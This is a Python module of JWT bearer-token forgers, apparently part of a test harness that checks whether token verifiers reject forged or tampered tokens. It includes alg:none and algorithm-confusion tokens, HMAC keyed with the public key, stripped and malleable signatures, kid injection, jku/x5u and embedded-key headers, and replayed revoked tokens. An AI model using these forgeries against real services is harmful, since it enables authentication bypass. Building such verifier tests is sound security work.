"""Bearer-token forgers, one per trick: format, algorithm, signature, key headers, size, claims."""

from __future__ import annotations

import base64
import binascii
import json
import secrets
from collections.abc import Callable
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

from sim.corpus.forging import (
    PYJWT_ALGORITHMS,
    b64url,
    bearer,
    compact,
    genuine_signature,
    hmac_token,
    json_bytes,
    raw_segments,
    sign_jws,
    token_parts,
    unb64url,
    with_header,
    with_signature,
)
from sim.corpus.model import ForgeContext, Forged
from sim.corpus.strangers import stranger_certificate, stranger_jwk_text, stranger_key, stranger_kid

# The Ed25519 group order L: a signature whose S is not below L is malleable and must be refused.
ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493


# -- format and encoding


def segments(count: int) -> Callable[[ForgeContext], Forged]:
    def forge(ctx: ForgeContext) -> Forged:
        parts = ctx.token.split(".")
        extra = [b64url(b"{}"), b64url(secrets.token_bytes(16))]
        return bearer(ctx, ".".join((parts + extra)[:count]))

    return forge


def padded_header(ctx: ForgeContext) -> Forged:
    head, payload, signature = ctx.token.split(".")
    padded = base64.urlsafe_b64encode(unb64url(head)).decode()
    if not padded.endswith("="):  # a header whose length is a multiple of 3: pad it ourselves
        padded = base64.urlsafe_b64encode(unb64url(head) + b" ").decode()
    return bearer(ctx, f"{padded}.{payload}.{signature}")


def standard_alphabet(ctx: ForgeContext) -> Forged:
    head, payload, signature = ctx.token.split(".")
    # '~' turns into '+' and '/' in standard base64; the header means the same with spaces added.
    header = unb64url(head).replace(b",", b', "x":"~~~",', 1)
    standard = base64.b64encode(header).decode().rstrip("=")
    return bearer(ctx, f"{standard}.{payload}.{signature}")


def nested(depth: int) -> Callable[[ForgeContext], Forged]:
    def forge(ctx: ForgeContext) -> Forged:
        header, _, _ = token_parts(ctx.token)
        text = json_bytes(header)[:-1] + b',"x":' + b"[" * depth + b"]" * depth + b"}"
        return raw_segments(ctx, header=text)

    return forge


def duplicate_header(name: str, value: Any) -> Callable[[ForgeContext], Forged]:
    def forge(ctx: ForgeContext) -> Forged:
        header, _, _ = token_parts(ctx.token)
        text = json_bytes(header)[:-1] + b"," + json_bytes({name: value})[1:]
        return raw_segments(ctx, header=text)

    return forge


def duplicate_claim(ctx: ForgeContext) -> Forged:
    _, claims, _ = token_parts(ctx.token)
    text = json_bytes(claims)[:-1] + b"," + json_bytes({"sub": ctx.other_device_id})[1:]
    return raw_segments(ctx, payload=text)


def header_bytes(data: bytes) -> Callable[[ForgeContext], Forged]:
    return lambda ctx: raw_segments(ctx, header=data)


def header_utf8_bom(ctx: ForgeContext) -> Forged:
    return raw_segments(ctx, header=b"\xef\xbb\xbf" + json_bytes(token_parts(ctx.token)[0]))


def header_utf16(ctx: ForgeContext) -> Forged:
    return raw_segments(ctx, header=json.dumps(token_parts(ctx.token)[0]).encode("utf-16-le"))


def header_invalid_utf8(ctx: ForgeContext) -> Forged:
    header, _, _ = token_parts(ctx.token)
    return raw_segments(ctx, header=json_bytes(header)[:-1] + b',"x":"\xff\xfe"}')


def payload_invalid_utf8(ctx: ForgeContext) -> Forged:
    _, claims, _ = token_parts(ctx.token)
    return raw_segments(ctx, payload=json_bytes(claims)[:-1] + b',"x":"\xc0\xa2"}')


def non_ascii(ctx: ForgeContext) -> Forged:
    head, payload, signature = ctx.token.split(".")
    return bearer(ctx, f"{head}.{payload}\u00e9.{signature}")


def garbage(ctx: ForgeContext) -> Forged:
    return bearer(ctx, binascii.hexlify(secrets.token_bytes(96)).decode())


# -- algorithm


def alg_forgery(name: str, keep_signature: bool) -> Callable[[ForgeContext], Forged]:
    def forge(ctx: ForgeContext) -> Forged:
        header, claims, signature = token_parts(ctx.token)
        return bearer(ctx, compact({**header, "alg": name}, claims, signature * keep_signature))

    return forge


def alg_switch(ctx: ForgeContext) -> Forged:
    header, claims, _ = token_parts(ctx.token)
    alg = "HS512" if ctx.token_alg == "HS256" else "HS256"
    return bearer(ctx, sign_jws(alg, stranger_key(alg), {**header, "alg": alg}, claims))


def alg_rsa(ctx: ForgeContext) -> Forged:
    header, claims, _ = token_parts(ctx.token)
    alg = "PS256" if ctx.token_alg == "RS256" else "RS256"
    return bearer(ctx, sign_jws(alg, stranger_key(alg), {**header, "alg": alg}, claims))


def public_key_forms(public: Any) -> dict[str, bytes]:
    if isinstance(public, ec.EllipticCurvePublicKey):
        jwk_alg = "ES384" if public.curve.name == "secp384r1" else "ES256"
    else:
        jwk_alg = "EdDSA" if isinstance(public, ed25519.Ed25519PublicKey) else "RS256"
    info = serialization.PublicFormat.SubjectPublicKeyInfo
    return {
        "pem": public.public_bytes(serialization.Encoding.PEM, info),
        "der": public.public_bytes(serialization.Encoding.DER, info),
        "jwk": PYJWT_ALGORITHMS[jwk_alg].to_jwk(public).encode(),
        "openssh": public.public_bytes(
            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
        ),
    }


def hmac_with_public_key(form: str) -> Callable[[ForgeContext], Forged]:
    def forge(ctx: ForgeContext) -> Forged:
        header, claims, _ = token_parts(ctx.token)
        secret = public_key_forms(ctx.public_key)[form]
        return bearer(ctx, hmac_token(secret, {**header, "alg": "HS256"}, claims))

    return forge


# -- signature


def stripped(ctx: ForgeContext) -> Forged:
    head, payload, _ = ctx.token.split(".")
    return bearer(ctx, f"{head}.{payload}.")


def _flippable(value: Any) -> bool:
    return isinstance(value, str) and value[-1:].isalnum()


def flip_in_value(segment: int, name: str) -> Callable[[ForgeContext], Forged]:
    """One bit flipped in the last character of a header or payload member's string value
    (an ASCII letter stays printable): the JSON stays valid, only the signature can tell."""

    def forge(ctx: ForgeContext) -> Forged:
        parts = ctx.token.split(".")
        raw = bytearray(unb64url(parts[segment]))
        members = json.loads(raw)
        # Another string member where a target's tokens lack this one.
        value = next(v for k, v in [(name, members.get(name)), *members.items()] if _flippable(v))
        position = raw.index(json_bytes(value)) + len(json_bytes(value)) - 2
        raw[position] ^= 0x01
        parts[segment] = b64url(bytes(raw))
        return bearer(ctx, ".".join(parts))

    return forge


def flip_signature(index: int) -> Callable[[ForgeContext], Forged]:
    def forge(ctx: ForgeContext) -> Forged:
        raw = bytearray(genuine_signature(ctx))
        raw[index if index >= 0 else len(raw) + index] ^= 0x01
        return with_signature(ctx, bytes(raw))

    return forge


def another_key(ctx: ForgeContext) -> Forged:
    header, claims, _ = token_parts(ctx.token)
    return bearer(ctx, sign_jws(ctx.token_alg, stranger_key(ctx.token_alg), header, claims))


def _r_s(ctx: ForgeContext) -> tuple[int, int, int]:
    """The genuine signature read as ECDSA r || s (for other algorithms, its two halves)."""
    raw = genuine_signature(ctx)
    half = len(raw) // 2
    return int.from_bytes(raw[:half], "big"), int.from_bytes(raw[half:], "big"), half


def ecdsa(
    r_of: Callable[[int], int], s_of: Callable[[int], int]
) -> Callable[[ForgeContext], Forged]:
    def forge(ctx: ForgeContext) -> Forged:
        r, s, half = _r_s(ctx)
        width = max(half, 32)
        return with_signature(ctx, r_of(r).to_bytes(width, "big") + s_of(s).to_bytes(width, "big"))

    return forge


def ecdsa_der(ctx: ForgeContext) -> Forged:
    r, s, _ = _r_s(ctx)
    return with_signature(ctx, encode_dss_signature(r, s))


def eddsa_s_plus_l(ctx: ForgeContext) -> Forged:
    raw = genuine_signature(ctx)
    half = len(raw) // 2
    width = max(half, 32)
    # For EdDSA S < L, so S + L fits; other algorithms' halves wrap (still a wrong signature).
    s = (int.from_bytes(raw[half:], "little") + ED25519_ORDER) % (1 << (8 * width))
    return with_signature(ctx, raw[:half] + s.to_bytes(width, "little"))


# -- key headers


def with_kid(kid: Any) -> Callable[[ForgeContext], Forged]:
    return lambda ctx: with_header(ctx, kid=kid)


def kid_hmac(kid: str, secret: bytes) -> Callable[[ForgeContext], Forged]:
    """The classic kid injection: a kid that makes a careless lookup return a known secret
    (an empty file, a row of our choosing), signed HS256 with that secret."""

    def forge(ctx: ForgeContext) -> Forged:
        header, claims, _ = token_parts(ctx.token)
        return bearer(ctx, hmac_token(secret, {**header, "alg": "HS256", "kid": kid}, claims))

    return forge


def _attacker_header(ctx: ForgeContext, **extra: Any) -> Forged:
    """Re-signed with the attacker's key of the target's algorithm, naming it with ``extra``."""
    header, claims, _ = token_parts(ctx.token)
    alg = ctx.token_alg
    header = {**header, "kid": stranger_kid(alg), **extra}
    return bearer(ctx, sign_jws(alg, stranger_key(alg), header, claims))


def _listener(ctx: ForgeContext, path: str) -> str:
    return f"{(ctx.listener_url or 'http://127.0.0.1:9').rstrip('/')}{path}"


def jku_forgery(ctx: ForgeContext) -> Forged:
    return _attacker_header(ctx, jku=_listener(ctx, "/jwks.json"))


def jku_genuine(ctx: ForgeContext) -> Forged:
    return with_header(ctx, jku=_listener(ctx, "/jwks.json"))


def x5u_forgery(ctx: ForgeContext) -> Forged:
    return _attacker_header(ctx, x5u=_listener(ctx, "/cert.pem"))


def embedded_jwk(ctx: ForgeContext) -> Forged:
    jwk = json.loads(stranger_jwk_text(ctx.token_alg))
    return _attacker_header(ctx, jwk=jwk)


def embedded_x5c(ctx: ForgeContext) -> Forged:
    der = stranger_certificate(ctx.token_alg).public_bytes(serialization.Encoding.DER)
    return _attacker_header(ctx, x5c=[base64.b64encode(der).decode()])


# -- size


def exactly(length: int) -> Callable[[ForgeContext], Forged]:
    def forge(ctx: ForgeContext) -> Forged:
        header, claims, signature = token_parts(ctx.token)
        base = compact(header, {**claims, "pad": ""}, signature)
        pad = "x" * max(0, (length - len(base) - 4) * 3 // 4)
        token = compact(header, {**claims, "pad": pad}, signature)
        # Top up the signature segment so the token is exactly ``length`` characters.
        return bearer(ctx, token + "A" * (length - len(token)))

    return forge


# -- claims


def other_device(ctx: ForgeContext) -> Forged:
    return Forged(f"Bearer {ctx.token}", ctx.other_device_id)


def revoked_forgery(ctx: ForgeContext) -> Forged:
    return Forged(f"Bearer {ctx.revoked_token}", ctx.revoked_device_id or ctx.device_id)


def scoped(ctx: ForgeContext) -> Forged:
    return Forged(f"Bearer {ctx.scoped_token}", ctx.device_id, "telemetry")
